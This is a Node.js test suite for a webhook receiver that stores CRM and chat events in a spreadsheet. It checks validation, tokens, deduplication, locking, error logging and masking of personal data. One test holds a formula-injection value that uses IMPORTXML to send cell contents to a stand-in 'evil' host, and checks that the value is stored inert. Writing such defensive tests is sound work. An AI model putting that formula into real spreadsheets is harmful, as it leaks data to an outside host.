// doPost: validation, tokens, duplicates, the lock, the errors tab (SPEC §5, issue #18).
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { load } = require('./harness');

const SECRET = 'a-long-enough-secret';
const KEY = '000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f';
const EVENT = { timestamp: '2025-01-01T12:34:56+03:00', channel: 'whatsapp', session_id: 'sess_12345',
  event_type: 'appointment.confirmed', intent: 'book_appointment', confidence: 0.92, crm_id: 'LEAD_789' };
const TIMES = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', 'tests', 'parity', 'times.json'), 'utf8'));

function app(extra = {}) {
  return load({ properties: { WEBHOOK_SECRET: SECRET, TOKEN_KEY: KEY }, ...extra });
}

test('a valid single event is stored under the header, answered ok with the bridge version', () => {
  const a = app();
  const r = a.post({ ...EVENT, event_id: 'e1' }, SECRET);
  assert.deepEqual(r, { ok: true, stored: ['e1'], duplicates: [], version: a.ctx.BRIDGE_VERSION });
  const rows = a.rows();
  assert.equal(rows[0][0], 'event_id');
  assert.equal(rows.length, 2);
  assert.equal(rows[1][7], 'appointment.confirmed');
});

test('a batch is written with one setValues call', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'first' }, SECRET);
  const writes = a.sheets.events.writes.length;
  const r = a.post([1, 2, 3].map((i) => ({ ...EVENT, event_id: 'b' + i })), SECRET);
  assert.deepEqual(r.stored, ['b1', 'b2', 'b3']);
  assert.equal(a.sheets.events.writes.length, writes + 1);
  assert.equal(a.rows().length, 5);
});

test('a wrong or missing token writes no event, and the errors tab says why', () => {
  const a = app();
  for (const token of ['nope', undefined, '']) {
    const r = a.post(EVENT, token);
    assert.deepEqual([r.ok, r.field], [false, 'token']);
  }
  assert.equal(a.sheets.events, undefined);
  assert.equal(a.rows('errors').length, 4);
});

test('without a secret the answer names the menu item as the owner\'s menu shows it (ru and en)', () => {
  for (const [locale, item] of [['ru_RU', 'Задать секрет вебхука'], ['en_US', 'Set the webhook secret']]) {
    const a = load({ locale, properties: {} });
    const r = a.post(EVENT, 'x');
    assert.equal(r.ok, false);
    assert.ok(r.error.includes(item), r.error);
    a.run('onOpen');
    assert.ok(a.ui.menus[0].items.some(([label]) => label === item));
  }
});

const REFUSED = [
  ['missing field', { ...EVENT, session_id: undefined }, 'session_id'],
  ['no offset', { ...EVENT, timestamp: '2025-01-01T12:34:56' }, 'timestamp'],
  ['year after 2100', { ...EVENT, timestamp: '2101-01-01T00:00:00+03:00' }, 'timestamp'],
  ['year before 2000', { ...EVENT, timestamp: '1970-01-01T00:00:00Z' }, 'timestamp'],
  ['offset past +14:00', { ...EVENT, timestamp: '2025-01-01T12:00:00+14:30' }, 'timestamp'],
  ['offset past -14:00', { ...EVENT, timestamp: '2025-01-01T12:00:00-15:00' }, 'timestamp'],
  ['impossible date', { ...EVENT, timestamp: '2025-02-30T12:00:00+03:00' }, 'timestamp'],
  ['bad event type', { ...EVENT, event_type: 'Lead Created' }, 'event_type'],
  ['event type with a newline', { ...EVENT, event_type: 'lead.created\n' }, 'event_type'],
  ['float as text', { ...EVENT, session_id: 12.5 }, 'session_id'],
  ['bad confidence', { ...EVENT, confidence: 'high' }, 'confidence'],
  ['message without text', { ...EVENT, event_type: 'message.received' }, 'payload.text'],
  ['payload not an object', { ...EVENT, payload: [1] }, 'payload'],
  ['second of a batch', [EVENT, { ...EVENT, channel: 5.5 }], '[1].channel'],
  ['not an object in a batch', [EVENT, 'x'], '[1]'],
  ['null body', 'null', 'event'],
  ['empty object', '{}', 'timestamp'],
  ['empty array', '[]', 'events'],
  ['zero', '0', 'event'],
  ['malformed JSON', '{"timestamp": ', 'body'],
  ['empty body', '', 'body'],
];
for (const [name, body, field] of REFUSED) {
  test(`refused naming the field: ${name}`, () => {
    const a = app();
    const r = a.post(body, SECRET);
    assert.deepEqual([r.ok, r.field], [false, field], JSON.stringify(r));
    assert.equal(a.sheets.events, undefined);
  });
}

test('offsets up to ±14:00 and years up to 2100 are accepted', () => {
  const a = app();
  const r = a.post([{ ...EVENT, event_id: 'k', timestamp: '2100-12-31T23:59:59+14:00' },
    { ...EVENT, event_id: 'h', timestamp: '2025-01-01T00:00:00-12:00' }], SECRET);
  assert.deepEqual(r.stored, ['k', 'h']);
});

test('rejected requests land in the errors tab: time, reason, field, platform, the first 500 characters, scrubbed', () => {
  const a = app();
  const body = JSON.stringify({ ...EVENT, confidence: 7, payload: { text: 'звоните 89171234567 ' + 'x'.repeat(600) } });
  const r = a.post(body, SECRET);
  assert.equal(r.ok, false);
  const [header, row] = a.rows('errors');
  assert.deepEqual(header, ['received_at', 'reason', 'field', 'source', 'body']);
  assert.match(row[0], /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00$/);
  assert.deepEqual([row[1], row[2], row[3]], [r.error, 'confidence', '']);
  assert.equal(Array.from(row[4]).length, 500);
  assert.ok(!row[4].includes('89171234567') && row[4].includes('[PHONE:'));
});

test('the errors tab keeps the newest 2000 rows', () => {
  const a = app();
  a.ctx.MAX_ERROR_ROWS = 3;
  for (let i = 0; i < 5; i++) a.post('{"n": ' + i, SECRET);
  const rows = a.rows('errors');
  assert.equal(rows.length, 4);
  assert.deepEqual(rows.slice(1).map((r) => r[4]), ['{"n": 2', '{"n": 3', '{"n": 4']);
});

test('formula-looking text is stored inert, exactly as the Python receiver stores it', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'f1', session_id: '=IMPORTXML("http://evil/?"&A1,"//a")', channel: '+cmd' }, SECRET);
  const row = a.rows()[1];
  assert.equal(row[5], "'=IMPORTXML(\"http://evil/?\"&A1,\"//a\")");
  assert.equal(row[4], "'+cmd");
});

test('phones, e-mails and cards are masked with keyed tokens', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'm1', event_type: 'message.received', user_phone: '89171234567',
    payload: { text: 'звоните +7 917 123-45-67 или пишите a.b@mail.ru, карта 2202 2061 4478 3318' } }, SECRET);
  const row = a.rows()[1];
  assert.match(row[6], /^\[PHONE:[0-9a-f]{10}\]$/);
  assert.ok(row[11].includes(row[6]), 'the same phone gives the same token');
  assert.ok(!/917|mail\.ru|2202/.test(row[11]));
  assert.ok(row[11].includes('[CARD]') && row[11].includes('[EMAIL:'));
});

test('duplicate event ids are skipped, also within one batch; no event_id gives a stable one', () => {
  const a = app();
  a.post({ ...EVENT, event_id: 'd1' }, SECRET);
  const r = a.post([{ ...EVENT, event_id: 'd1' }, { ...EVENT, event_id: 'd2' }, { ...EVENT, event_id: 'd2' }], SECRET);
  assert.deepEqual(r.stored, ['d2']);
  assert.deepEqual(r.duplicates, ['d1', 'd2']);
  assert.equal(a.rows().length, 3);
  const again = a.post({ ...EVENT }, SECRET);
  const same = a.post({ ...EVENT }, SECRET);
  assert.deepEqual(same.duplicates, again.stored);
});

test('the lock serializes writes; a busy lock is reported, never interleaved', () => {
  const a = app();
  for (let i = 0; i < 20; i++) a.post({ ...EVENT, event_id: 'c' + i }, SECRET);
  assert.deepEqual([a.lock.acquired, a.lock.released], [20, 20]);
  assert.deepEqual(a.rows().slice(1).map((r) => r[0]), Array.from({ length: 20 }, (_, i) => 'c' + i));
  a.lock.holder = 'another execution';
  const busy = a.post({ ...EVENT, event_id: 'late' }, SECRET);
  assert.equal(busy.ok, false);
  assert.equal(busy.error, a.ctx.t_('err.busy'));
  assert.equal(a.rows().length, 21);
  a.lock.holder = null;
  assert.equal(a.post({ ...EVENT, event_id: 'late' }, SECRET).ok, true);
});

test('answers are JSON text output', () => {
  const a = app();
  const out = a.execute(() => a.ctx.doPost({ parameter: { token: SECRET }, postData: { contents: JSON.stringify(EVENT) } }));
  assert.equal(out.mime, 'application/json');
});

for (const [value, zone, expected] of TIMES.cases) {
  test(`a platform time ${JSON.stringify(value)} in ${zone} is ${expected} (as Python)`, () => {
    const a = app();
    const ctx = { tz: zone, now: Date.parse(TIMES.now), params: {} };
    assert.equal(a.execute(() => a.ctx.when_(value, 't', ctx)), expected);
  });
}

test('what is not a time is refused naming the field', () => {
  const a = app();
  for (const value of TIMES.not_times) {
    assert.throws(() => a.execute(() => a.ctx.when_(value, 'when', { tz: 'UTC', now: 0, params: {} })),
      (err) => err.field === 'when', JSON.stringify(value));
  }
});
